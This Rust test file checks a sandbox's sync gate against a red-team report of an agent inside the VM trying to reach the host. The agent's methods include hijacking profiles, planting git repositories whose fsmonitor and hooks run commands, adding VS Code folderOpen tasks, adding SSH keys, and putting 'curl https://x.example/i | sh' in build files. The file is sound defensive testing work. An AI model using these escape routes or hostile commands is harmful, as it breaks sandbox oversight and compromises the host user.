        let out = g.sync(&["--yes"]);
        *outcomes.entry(out.code).or_insert(0) += 1;
        assert!(matches!(out.code, 0 | 1 | 3), "{}", out.all());
        let host = tree_of(&g.host());
        assert!(
            !host.iter().any(|l| l.contains("key = outside")),
            "the link's target was read\n{host:?}\n{}",
            out.all()
        );
        assert!(!out.all().contains("key = outside"), "{}", out.all());
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    flip.join().expect("flipper");
    g.canary_intact();
    // Whatever the interleaving, what is applied is the plain file (or nothing).
    let f = std::fs::symlink_metadata(g.host().join("f"));
    assert!(f.is_err() || std::fs::read_to_string(g.host().join("f")).expect("read") == "plain\n", "{outcomes:?}");
}

#[test]
fn k4_host_directory_swapped_for_a_symlink_mid_apply_writes_nothing_through_it() {
    let files: Vec<(String, String)> = (0..400).map(|i| (format!("src/f{i:03}"), format!("{i}\n"))).collect();
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    let g = Gate::new(&refs);
    for (p, _) in &files {
        g.u(p, "changed by the VM\n");
    }
    let victim = g.home().join("outside/victim");
    std::fs::create_dir_all(&victim).expect("mkdir");
    let mut codes = Vec::new();
    for _ in 0..3 {
        // The checks see a plain directory; the swapping starts while the preview is read.
        let Some(t) = g.terminal(false) else { return };
        t.wait_for("Apply to");
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let target = victim.clone();
        let flip = flipper(
            g.host(),
            stop.clone(),
            |h| {
                let _ = std::fs::remove_file(h.join("src"));
                let _ = std::fs::rename(h.join("src.away"), h.join("src"));
            },
            move |h| {
                if std::fs::rename(h.join("src"), h.join("src.away")).is_ok() {
                    let _ = std::os::unix::fs::symlink(&target, h.join("src"));
                }
            },
        );
        t.key("Enter");
        codes.push(t.exit_code());
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        flip.join().expect("flipper");
    }
    assert!(codes.iter().all(|c| matches!(c, 0 | 1 | 3)), "{codes:?}");
    assert_eq!(std::fs::read_dir(&victim).expect("victim").count(), 0, "written through the symlink: {codes:?}");
    g.canary_intact();
    // Every file is old or new, never anything else.
    for (p, c) in &files {
        let now = std::fs::read_to_string(g.host().join(p)).expect("read");
        assert!(now == *c || now == "changed by the VM\n", "{p}: {now:?}");
    }
}

#[test]
fn terminal_conflicts_are_settled_one_by_one() {
    let conflicted = || {
        let g = Gate::new(&[("a", "A"), ("b", "B")]);
        g.h("a", "edited on the host");
        g.u("a", "changed in the VM").u("b", "B2");
        g
    };
    // Keep the host's version (first choice), take the VM's (second) or stop (third).
    let settle = |g: &Gate, downs: usize| {
        let t = g.terminal(false)?;
        t.wait_for("Conflict: a:");
        for _ in 0..downs {
            t.key("Down");
        }
        t.key("Enter");
        if downs < 2 {
            t.wait_for("Apply to");
            t.key("Enter");
        }
        Some(t.exit_code())
    };
    let g = conflicted();
    let Some(code) = settle(&g, 0) else { return };
    assert_eq!(code, 0);
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B2"]), "the other changes still go through");

    let g = conflicted();
    assert_eq!(settle(&g, 1), Some(0));
    assert_eq!(g.tree(), lines(&["a 644 changed in the VM", "b 644 B2"]));
    let undo = g.run(&["--profile", "t", "sync", "--undo", "--to", "ws"]);
    assert_eq!(undo.code, 0, "{}", undo.all());
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B"]), "undo gives the host's edit back");

    let g = conflicted();
    assert_eq!(settle(&g, 2), Some(3));
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B"]), "nothing written");
}

// ---------------------------------------------------------------------------------------------
// R. Red team (issue 19): what an agent that controls the whole upper tried, and the variants it
// would try next. The assertions read the versioned `--json` report (stable codes, one report
// holding every refusal, review item, conflict and finding) and the host tree.

/// A synthetic GitHub token (not a real credential), split so the repository's self-scan does not
/// see it here.
const R_TOKEN: &str = concat!("gh", "p_8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI");

/// A profile that, if it were ever loaded, would open one more egress domain and size the VM up.
const R_HOSTILE: &str =
    "name: hostile\nextends: minimal\nvm: {cpus: 9}\nnetwork:\n  egress:\n    allow_domains: [evil.example.net]\n";

/// A profile file kept in the workspace, as `sandbox -p ws/sandbox.yaml` uses it.
const R_WS_PROFILE: &str = "name: ws\nextends: default\nworkspaces: [{host: ~/ws}]\n";

fn r_report(out: &Out) -> serde_json::Value {
    serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("a JSON report on stdout ({e})\n{}", out.all()))
}

/// `(code, path)` of every refusal, review item, conflict and finding of a `--json` report.
fn codes(out: &Out) -> std::collections::BTreeSet<(String, String)> {
    let report = r_report(out);
    let mut set = std::collections::BTreeSet::new();
    for key in ["refusals", "review", "conflicts", "findings"] {
        for item in report[key].as_array().into_iter().flatten() {
            let field = |k: &str| item[k].as_str().unwrap_or_default().to_owned();
            set.insert((field("code"), field("path")));
        }
    }
    set
}

/// Every `(code, path)` is in the report.
#[track_caller]
fn has_codes(out: &Out, expect: &[(&str, &str)]) {
    let got = codes(out);
    let missing: Vec<_> =
        expect.iter().filter(|(code, path)| !got.contains(&((*code).to_owned(), (*path).to_owned()))).collect();
    assert!(missing.is_empty(), "missing (code, path): {missing:?}\nreported: {got:?}\n{}", out.all());
}

/// The report has `code` (on any path).
#[track_caller]
fn has_code(out: &Out, code: &str) {
    let got = codes(out);
    assert!(got.iter().any(|(c, _)| c == code), "no {code}\nreported: {got:?}\n{}", out.all());
}

/// Held by the gate (a `--yes --json` run): exit 3, nothing written in the workspace or beside
/// it, and each `(code, path)` reported. Review-tier items end here too: `--yes` alone never
/// applies them.
#[track_caller]
fn held(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    assert_eq!(out.code, 3, "held by the gate (exit 3)\n{}", out.all());
    assert_eq!(&g.snapshot(), before, "nothing was written\n{}", out.all());
    g.canary_intact();
    has_codes(out, expect);
}

/// Refused (not only held for review): `held`, the decision `refused` and the stderr line.
#[track_caller]
fn refused_with(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    held(g, out, before, expect);
    assert!(out.stderr.contains("refused by the gate: nothing was written"), "{}", out.all());
    assert_eq!(r_report(out)["decision"], "refused", "{}", out.all());
}

/// The paths of the report's conflicts.
fn conflict_paths(out: &Out) -> Vec<String> {
    let report = r_report(out);
    report["conflicts"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|c| c["path"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Lines of the audit log.
fn r_audit(g: &Gate) -> Vec<serde_json::Value> {
    let text = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).unwrap_or_default();
    text.lines().map(|l| serde_json::from_str(l).expect("an audit line is JSON")).collect()
}

/// `R_TOKEN` appears nowhere in the output or the audit log.
#[track_caller]
fn token_never_shown(g: &Gate, out: &Out) {
    assert!(!out.all().contains(R_TOKEN), "the token was printed\n{}", out.all());
    let audit = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).unwrap_or_default();
    assert!(!audit.contains(R_TOKEN), "the token is in audit.jsonl:\n{audit}");
}

fn r_git(dir: &Path, home: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .stdin(Stdio::null())
        .output()
        .expect("run git")
}

fn r_mkfifo(path: &Path) {
    rustix::fs::mknodat(
        rustix::fs::CWD,
        path,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        rustix::fs::makedev(0, 0),
    )
    .expect("mkfifo");
}

fn is_fifo(path: &Path) -> bool {
    use std::os::unix::fs::FileTypeExt;
    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_fifo())
}

impl Gate {
    /// `sandbox -p PROFILE sync --from-dir UPPER --to ws EXTRA...`
    fn sync_as(&self, profile: &str, extra: &[&str]) -> Out {
        let mut args = self.sync_args(extra);
        args[1] = profile.to_owned();
        self.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }

    /// `sandbox ARGS` with these variables set too.
    fn run_env(&self, args: &[String], env: &[(&str, &str)]) -> Out {
        let output = self
            .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
            .args(args)
            .envs(env.iter().copied())
            .output()
            .expect("run sandbox");
        Out {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    fn yes_json(&self) -> Out {
        self.sync(&["--yes", "--json"])
    }

    /// A host file with mode 0755.
    fn h_exec(&self, path: &str, content: &str) -> &Self {
        self.h(path, content);
        chmod(&self.host().join(path), 0o755);
        self
    }
}

// R1. Profile hijack.

#[test]
fn r1_a_file_named_default_never_shadows_the_builtin_profile() {
    for args in [&["-p", "default", "profile", "show"][..], &["profile", "show"]] {
        let run = crate::test::Test::new().file("project/default", R_HOSTILE).args(args).run().success();
        let shown = run.stdout();
        assert!(shown.starts_with("name: default\n") && shown.contains("cpus: 4"), "{args:?}: {shown}");
        assert!(!shown.contains("evil.example.net"), "{args:?}: the file `default` was loaded\n{shown}");
    }
}

#[test]
fn r1_a_file_named_strict_offline_never_shadows_the_builtin_from_the_environment() {
    let run = crate::test::Test::new()
        .file("project/strict-offline", R_HOSTILE)
        .env("SANDBOX_PROFILE", "strict-offline")
        .args(["profile", "show"])
        .run()
        .success();
    let shown = run.stdout();
    assert!(shown.starts_with("name: strict-offline\n") && shown.contains("allow_domains: []"), "{shown}");
    assert!(!shown.contains("evil.example.net"), "{shown}");
    // `minimal` and a profile of the config folder are names too.
    let run = crate::test::Test::new().file("project/minimal", R_HOSTILE).args(["-p", "minimal", "profile", "show"]);
    let shown = run.run().success().stdout();
    assert!(shown.starts_with("name: minimal\n") && !shown.contains("evil.example.net"), "{shown}");
    let run = crate::test::Test::new()
        .profile("work", "name: work\nextends: default\nvm: {cpus: 3}\n")
        .file("project/work", R_HOSTILE)
        .args(["-p", "work", "profile", "show"]);
    let shown = run.run().success().stdout();
    assert!(shown.contains("cpus: 3") && !shown.contains("evil.example.net"), "{shown}");
}

#[test]
fn r1_extends_a_builtin_name_never_reads_a_file_beside_the_profile() {
    for parent in ["default", "strict-offline"] {
        let run = crate::test::Test::new()
            .file("ws/sandbox.yaml", &format!("name: ws\nextends: {parent}\n"))
            .file(&format!("ws/{parent}"), R_HOSTILE)
            .args(["-p", "../ws/sandbox.yaml", "profile", "show"])
            .run()
            .success();
        let shown = run.stdout();
        assert!(shown.starts_with("name: ws\n") && !shown.contains("evil.example.net"), "{parent}: {shown}");
        assert!(!shown.contains("cpus: 9"), "{parent}: {shown}");
    }
}

/// The reported attack: the agent writes a complete profile into `default` beside the
/// workspace's `sandbox.yaml` (`extends: default`). Whatever the gate does with the file, the
/// next `sandbox -p sandbox.yaml` never loads it.
#[test]
fn r1_the_reported_hijack_never_reaches_the_next_run() {
    let g = Gate::empty();
    g.h("sandbox.yaml", R_WS_PROFILE).h("a", "A");
    g.baseline();
    g.u("default", R_HOSTILE).u("strict-offline", R_HOSTILE);
    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
    assert!(matches!(out.code, 0 | 3), "{}", out.all());
    for (cwd, profile) in [(g.host(), "sandbox.yaml"), (g.home(), "ws/sandbox.yaml")] {
        let shown = crate::test::sandbox_in(&g.home(), &cwd, &["-p", profile, "profile", "show"], &[]);
        let text = String::from_utf8_lossy(&shown.stdout);
        assert!(shown.status.success(), "{}", String::from_utf8_lossy(&shown.stderr));
        assert!(text.starts_with("name: ws\n") && !text.contains("evil.example.net"), "{text}");
    }
}

#[test]
fn r1_an_edit_of_the_active_profile_file_needs_review() {
    let g = Gate::empty();
    g.h("sandbox.yaml", R_WS_PROFILE).h("a", "A");
    g.baseline();
    g.u("sandbox.yaml", &format!("{R_WS_PROFILE}network:\n  egress:\n    allow_domains: [evil.example.net]\n"));
    g.u("a", "A2");
    let before = g.snapshot();
    held(&g, &g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]), &before, &[("R_PROFILE", "sandbox.yaml")]);
    // Replaced by a symlink to another file: still an operation on the active profile.
    let g = Gate::empty();
    g.h("sandbox.yaml", R_WS_PROFILE).h("evil.yaml", R_HOSTILE);
    g.baseline();
    g.u_link("sandbox.yaml", "evil.yaml");
    let before = g.snapshot();
    held(&g, &g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]), &before, &[("R_PROFILE", "sandbox.yaml")]);
}

#[test]
fn r1_an_edit_of_a_parent_profile_in_the_workspace_needs_review() {
    let g = Gate::empty();
    g.h("sandbox.yaml", "name: ws\nextends: profiles/base.yaml\nworkspaces: [{host: ~/ws}]\n");
    g.h("profiles/base.yaml", "name: base\nextends: default\n").h("profiles/notes.md", "n");
    g.baseline();
    g.u("profiles/base.yaml", R_HOSTILE);
    let before = g.snapshot();
    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_PROFILE", "profiles/base.yaml")]);
    // The same through an opaque folder that replaces the parent's folder.
    let g = Gate::empty();
    g.h("sandbox.yaml", "name: ws\nextends: ./profiles/base.yaml\nworkspaces: [{host: ~/ws}]\n");
    g.h("profiles/base.yaml", "name: base\nextends: default\n");
    g.baseline();
    g.opaque("profiles").u("profiles/base.yaml", R_HOSTILE);
    let before = g.snapshot();
    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_PROFILE", "profiles/base.yaml")]);
}

#[test]
fn r1_a_profile_file_reached_through_a_link_needs_review() {
    let g = Gate::empty();
    g.h("conf/sandbox.yaml", R_WS_PROFILE).h_link("sandbox.yaml", "conf/sandbox.yaml");
    g.baseline();
    g.u("conf/sandbox.yaml", R_HOSTILE);
    let before = g.snapshot();
    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_PROFILE", "conf/sandbox.yaml")]);
}

#[test]
fn r1_an_edit_of_the_active_profile_from_a_tar_stream_needs_review() {
    let g = Gate::empty();
    g.h("sandbox.yaml", R_WS_PROFILE);
    g.baseline();
    let mut tar = Tar::new();
    tar.root().file("./sandbox.yaml", R_HOSTILE);
    let file = g.root().join("upper.tar");
    std::fs::write(&file, tar.finish()).expect("write tar");
    let (file, entries, bytes) = (file.display().to_string(), tar.entries.to_string(), tar.bytes.to_string());
    let args = ["-p", "ws/sandbox.yaml", "sync", "--from-tar", &file, "--entries", &entries, "--bytes", &bytes];
    let before = g.snapshot();
    let out = g.run(&[&args[..], &["--to", "ws", "--yes", "--json"]].concat());
    held(&g, &out, &before, &[("R_PROFILE", "sandbox.yaml")]);
}

/// Beyond the issue's list: files the active profile names (`sync.secret_rules`: the next sync's
/// scanner; `provision.roles_path`: Ansible roles, which run on the host at `sandbox up`).
#[test]
fn r1_files_the_active_profile_reads_need_review() {
    let g = Gate::empty();
    let profile = "name: ws\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {secret_rules: ./rules.toml}\nprovision: {roles_path: [./roles]}\n";
    g.h("sandbox.yaml", profile).h("rules.toml", "[extend]\nuseDefault = true\n");
    g.h("roles/base/tasks/main.yml", "- debug: {msg: hi}\n");
    g.baseline();
    g.u("rules.toml", "title = \"no rules\"\n");
    g.u("roles/base/tasks/main.yml", "- shell: curl https://x.example/i | sh\n  delegate_to: localhost\n");
    let before = g.snapshot();
    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_PROFILE", "rules.toml"), ("R_PROFILE", "roles/base/tasks/main.yml")]);
}

/// `$XDG_CONFIG_HOME` inside the workspace: a new `profiles/default.yaml` would shadow the
/// built-in profile for every later run, and the active profile `t` lives there.
#[test]
fn r1_the_config_folder_inside_the_workspace_needs_review() {
    let g = Gate::empty();
    g.h(".config/sandbox/profiles/t.yaml", PROFILE).h("a", "A");
    g.baseline();
    g.u(".config/sandbox/profiles/default.yaml", R_HOSTILE).u(".config/sandbox/profiles/t.yaml", R_HOSTILE);
    let before = g.snapshot();
    let config = g.host().join(".config").display().to_string();
    let out = g.run_env(&g.sync_args(&["--yes", "--json"]), &[("XDG_CONFIG_HOME", &config)]);
    let expect =
        [("R_PROFILE", ".config/sandbox/profiles/default.yaml"), ("R_PROFILE", ".config/sandbox/profiles/t.yaml")];
    held(&g, &out, &before, &expect);
}

/// A dotfiles workspace: `~/.config/sandbox` is a link into it (stow style).
#[test]
fn r1_a_config_folder_linked_into_the_workspace_needs_review() {
    let g = Gate::empty();
    g.h("dotfiles/sandbox/profiles/t.yaml", PROFILE).h("a", "A");
    std::fs::remove_dir_all(g.home().join(".config/sandbox")).expect("rm");
    std::os::unix::fs::symlink(g.host().join("dotfiles/sandbox"), g.home().join(".config/sandbox")).expect("ln");
    g.baseline();
    g.u("dotfiles/sandbox/profiles/default.yaml", R_HOSTILE).u("dotfiles/sandbox/profiles/t.yaml", R_HOSTILE);
    let before = g.snapshot();
    let expect =
        [("R_PROFILE", "dotfiles/sandbox/profiles/default.yaml"), ("R_PROFILE", "dotfiles/sandbox/profiles/t.yaml")];
    held(&g, &g.yes_json(), &before, &expect);
}

// R2. Planted git repositories.

/// A bare repository under another name, as the red team planted it: git takes `tools` for a
/// repository, and its hooks run on the next ref update there.
fn r_plant_bare_repo(g: &Gate, dir: &str, marker: &Path) {
    g.u(&format!("{dir}/HEAD"), "ref: refs/heads/main\n");
    g.u(&format!("{dir}/config"), &format!("[core]\n\tfsmonitor = \"touch {}; false\"\n", marker.display()));
    g.u(&format!("{dir}/hooks/reference-transaction"), &format!("#!/bin/sh\ntouch {}\n", marker.display()));
    g.u_mode(&format!("{dir}/hooks/reference-transaction"), 0o755);
    g.u_dir(&format!("{dir}/objects")).u_dir(&format!("{dir}/refs/heads"));
}

#[test]
fn r2_a_bare_repository_under_another_name_is_refused() {
    let g = Gate::new(&KEEP);
    let marker = g.root().join("PWNED");
    r_plant_bare_repo(&g, "tools", &marker);
    // The input is a real attack: a copy of it is a repository to git, and git runs its hook.
    let probe = g.root().join("probe");
    for e in walkdir::WalkDir::new(g.upper().join("tools")) {
        let e = e.expect("walk");
        let to = probe.join(e.path().strip_prefix(g.upper()).expect("rel"));
        if e.file_type().is_dir() {
            std::fs::create_dir_all(&to).expect("mkdir");
        } else {
            std::fs::copy(e.path(), &to).expect("copy");
        }
    }
    let git = r_git(&probe.join("tools"), &g.root(), &["pack-refs", "--all"]);
    assert!(marker.exists(), "git ran the planted hook: {}", String::from_utf8_lossy(&git.stderr));
    std::fs::remove_file(&marker).expect("rm marker");

    let before = g.snapshot();
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[("E_GIT_REPO", "tools/HEAD"), ("E_GIT_REPO", "tools/config")]);
    assert!(!marker.exists());
    // Every operation inside it is named.
    has_codes(&out, &[("E_GIT_REPO", "tools/hooks/reference-transaction")]);
}

#[test]
fn r2_a_planted_repository_is_found_in_any_case_and_with_commondir() {
    let g = Gate::new(&KEEP);
    g.u("Tools/head", "ref: refs/heads/main\n")
        .u("Tools/Config", "[core]\n")
        .u_dir("Tools/OBJECTS")
        .u_dir("Tools/Refs");
    // A linked-worktree style git dir: HEAD and commondir.
    g.u("wt/HEAD", "ref: refs/heads/main\n").u("wt/commondir", "../tools\n");
    let before = g.snapshot();
    let expect = [("E_GIT_REPO", "Tools/head"), ("E_GIT_REPO", "Tools/Config"), ("E_GIT_REPO", "wt/commondir")];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

/// Entries that are links still make a repository for git.
#[test]
fn r2_repository_entries_that_are_links_count() {
    let g = Gate::new(&[("store/o/keep", "k"), ("store/r/heads/keep", "k")]);
    g.u("fx/HEAD", "ref: refs/heads/main\n").u_link("fx/objects", "../store/o").u_link("fx/refs", "../store/r");
    let before = g.snapshot();
    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "fx/HEAD")]);
}

/// The plan completes a repository whose other parts the host already had, or changes one the
/// host has (a test fixture, say).
#[test]
fn r2_a_repository_completed_or_changed_by_the_plan_is_refused() {
    let g = Gate::new(&[("tools/objects/README", "o"), ("tools/refs/README", "r"), ("a", "A")]);
    g.u("tools/HEAD", "ref: refs/heads/main\n");
    let before = g.snapshot();
    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "tools/HEAD")]);

    let g = Gate::new(&[
        ("vendor/fixture.git/HEAD", "ref: refs/heads/main\n"),
        ("vendor/fixture.git/config", "[core]\n\tbare = true\n"),
        ("vendor/fixture.git/objects/info/packs", "\n"),
        ("vendor/fixture.git/refs/heads/main", "0000000000000000000000000000000000000000\n"),
    ]);
    g.u("vendor/fixture.git/config", "[core]\n\tbare = true\n\tfsmonitor = \"sh -c evil\"\n");
    g.u("vendor/fixture.git/hooks/post-update", "#!/bin/sh\nevil\n");
    let before = g.snapshot();
    let expect = [("E_GIT_REPO", "vendor/fixture.git/config"), ("E_GIT_REPO", "vendor/fixture.git/hooks/post-update")];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

/// The workspace root itself made a repository (the folder has no `.git`).
#[test]
fn r2_the_workspace_root_made_a_repository_is_refused() {
    let g = Gate::new(&KEEP);
    g.u("HEAD", "ref: refs/heads/main\n").u("config", "[core]\n\tfsmonitor = \"sh -c evil\"\n");
    g.u_dir("objects").u_dir("refs/heads");
    let before = g.snapshot();
    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "HEAD"), ("E_GIT_REPO", "config")]);
    // The host already has folders named `objects` and `refs`; the plan adds `HEAD`.
    let g = Gate::new(&[("objects/model.bin", "m"), ("refs/paper.bib", "r"), ("a", "A")]);
    g.u("HEAD", "ref: refs/heads/main\n").u("a", "A2");
    let before = g.snapshot();
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[("E_GIT_REPO", "HEAD")]);
    has_codes(&out, &[("E_GIT_REPO", "a")]);
}

#[test]
fn r2_a_planted_repository_in_a_tar_stream_is_refused() {
    let g = Gate::new(&KEEP);
    let mut tar = Tar::new();
    tar.root()
        .member(tar::EntryType::Directory, b"./tools/", b"", 0, b"")
        .file("./tools/HEAD", "ref: refs/heads/main\n")
        .file("./tools/config", "[core]\n\tfsmonitor = \"sh -c evil\"\n")
        .member(tar::EntryType::Directory, b"./tools/objects/", b"", 0, b"")
        .member(tar::EntryType::Directory, b"./tools/refs/", b"", 0, b"");
    let before = g.snapshot();
    let out = g.sync_tar(&tar, &["--yes", "--json"]);
    refused_with(&g, &out, &before, &[("E_GIT_REPO", "tools/HEAD"), ("E_GIT_REPO", "tools/config")]);
}

#[test]
fn r2_gitmodules_anywhere_needs_review_and_a_git_file_anywhere_is_refused() {
    let g = Gate::new(&KEEP);
    g.u(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c evil\n");
    g.u("lib/.gitmodules", "[submodule \"y\"]\n\tpath = y\n\turl = ../y\n");
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", ".gitmodules"), ("R_CODE_PATH", "lib/.gitmodules")]);

    let g = Gate::new(&KEEP);
    g.u("sub/.git", "gitdir: ../tools\n").u("deep/er/.GIT", "gitdir: /tmp/evil\n");
    let before = g.snapshot();
    let expect = [("E_GIT_PATH", "sub/.git"), ("E_GIT_PATH", "deep/er/.GIT")];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

// R3. Review and blocked rules match every path by which the host reaches a file.

#[test]
fn r3_a_vscode_link_made_by_the_plan_reviews_what_is_written_through_it() {
    let g = Gate::new(&KEEP);
    g.u_link(".vscode", "cfg/vsc");
    g.u("cfg/vsc/tasks.json", r#"{"tasks": [{"command": "evil", "runOptions": {"runOn": "folderOpen"}}]}"#);
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", ".vscode")]);
}

#[test]
fn r3_a_vscode_link_in_the_baseline_reviews_what_is_written_through_it() {
    let g = Gate::empty();
    g.h("cfg/vsc/settings.json", "{}").h_link(".vscode", "cfg/vsc");
    g.baseline();
    g.u("cfg/vsc/tasks.json", r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#);
    g.u("cfg/vsc/settings.json", r#"{"terminal.integrated.shell.linux": "/tmp/evil"}"#);
    let before = g.snapshot();
    let expect = [("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", "cfg/vsc/settings.json")];
    held(&g, &g.yes_json(), &before, &expect);
}

/// A link that dangles in the baseline: the plan creates the folder it names.
#[test]
fn r3_a_dangling_baseline_link_reviews_the_folder_the_plan_creates() {
    let g = Gate::empty();
    g.h("a", "A").h_link(".vscode", "cfg/vsc");
    g.baseline();
    g.u("cfg/vsc/tasks.json", r#"{"tasks": []}"#);
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json")]);
}

#[test]
fn r3_links_to_folders_are_matched_as_those_folders() {
    let g = Gate::new(&[("scripts/hooks/README", "r"), ("ci/README", "c"), ("c/README", "c")]);
    g.u_link(".husky", "scripts/hooks").u_link(".github", "ci").u_link(".cargo", "c");
    g.u("scripts/hooks/pre-commit", "#!/bin/sh\nevil\n");
    g.u("ci/workflows/x.yml", "on: push\n").u("c/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n");
    let before = g.snapshot();
    let expect = [
        ("R_CODE_PATH", ".husky"),
        ("R_CODE_PATH", "scripts/hooks/pre-commit"),
        ("R_CODE_PATH", "ci/workflows/x.yml"),
        ("R_CODE_PATH", "c/config.toml"),
    ];
    held(&g, &g.yes_json(), &before, &expect);
}

/// Beyond the issue's cases: the plan adds only links, to folders the host already has, and the
/// host then reaches inert files there as `.cargo/config.toml` or `.github/workflows/x.yml`.
#[test]
fn r3_a_new_link_exposing_host_files_as_code_paths_is_reviewed() {
    let cases = [
        (".cargo", "c", "c/config.toml", "[build]\nrustc-wrapper = \"scripts/w.sh\"\n"),
        (".github", "ci", "ci/workflows/x.yml", "on: push\n"),
        (
            ".vscode",
            "docs/examples",
            "docs/examples/tasks.json",
            r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#,
        ),
    ];
    for (link, target, file, content) in cases {
        let g = Gate::new(&[(file, content), ("a", "A")]);
        g.u_link(link, target);
        let before = g.snapshot();
        held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", link)]);
    }
}

/// A chain: `.vscode -> a` (baseline), `a -> cfg/vsc` (plan), and a link in a subfolder.
#[test]
fn r3_a_chain_of_links_is_followed() {
    let g = Gate::empty();
    g.h("k", "k").h_link(".vscode", "a");
    g.baseline();
    g.u_link("a", "cfg/vsc").u("cfg/vsc/tasks.json", "{}");
    g.u_link("src/.vscode", "../cfg/sub").u("cfg/sub/launch.json", "{}");
    let before = g.snapshot();
    let expect = [("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", "cfg/sub/launch.json")];
    held(&g, &g.yes_json(), &before, &expect);
}

#[test]
fn r3_a_baseline_ssh_link_blocks_writes_through_it() {
    let g = Gate::empty();
    g.h("dotfiles/ssh/config", "Host *\n").h_link(".ssh", "dotfiles/ssh");
    g.h("config/app.conf", "x=1\n").h_link(".env", "config/app.conf");
    g.baseline();
    g.u("dotfiles/ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n").u("config/app.conf", "x=2\n");
    let before = g.snapshot();
    let expect = [("E_BLOCKED_NAME", "dotfiles/ssh/authorized_keys"), ("E_BLOCKED_NAME", "config/app.conf")];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

#[test]
fn r3_a_baseline_makefile_link_reviews_its_target() {
    let g = Gate::empty();
    g.h("mk/main.txt", "all:\n\techo hi\n").h_link("Makefile", "mk/main.txt");
    g.baseline();
    g.u("mk/main.txt", "all:\n\tcurl https://x.example/i | sh\n");
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "mk/main.txt")]);
}

/// A tar stream names the file before the link that makes it a VS Code task.
#[test]
fn r3_the_link_after_the_file_in_a_tar_stream_is_still_followed() {
    let g = Gate::new(&KEEP);
    let mut tar = Tar::new();
    tar.root()
        .member(tar::EntryType::Directory, b"./cfg/", b"", 0, b"")
        .member(tar::EntryType::Directory, b"./cfg/vsc/", b"", 0, b"")
        .file("./cfg/vsc/tasks.json", r#"{"tasks": []}"#)
        .symlink("./.vscode", "cfg/vsc");
    let before = g.snapshot();
    let out = g.sync_tar(&tar, &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", ".vscode")]);
}

// R4. The review list.

const R4_LISTED: [&str; 34] = [
    "lefthook.yml",
    ".lintstagedrc.json",
    "lint-staged.config.js",
    ".husky/pre-commit",
    ".simple-git-hooks.json",
    "x.code-workspace",
    "setup.py",
    "setup.cfg",
    "gradle/wrapper/gradle-wrapper.properties",
    "docker-compose.yml",
    "compose.yaml",
    "justfile",
    "Taskfile.yml",
    "shell.nix",
    "flake.nix",
    "devbox.json",
    ".circleci/config.yml",
    ".travis.yml",
    "azure-pipelines.yml",
    "Jenkinsfile",
    ".buildkite/pipeline.yml",
    ".drone.yml",
    ".gitlab-ci.yml",
    "bitbucket-pipelines.yml",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "Cargo.lock",
    "poetry.lock",
    "uv.lock",
    "Gemfile.lock",
    "go.sum",
    ".direnv/x",
    "conftest.py",
];

/// Every path is reviewed (`R_CODE_PATH`) and `--yes` alone writes nothing.
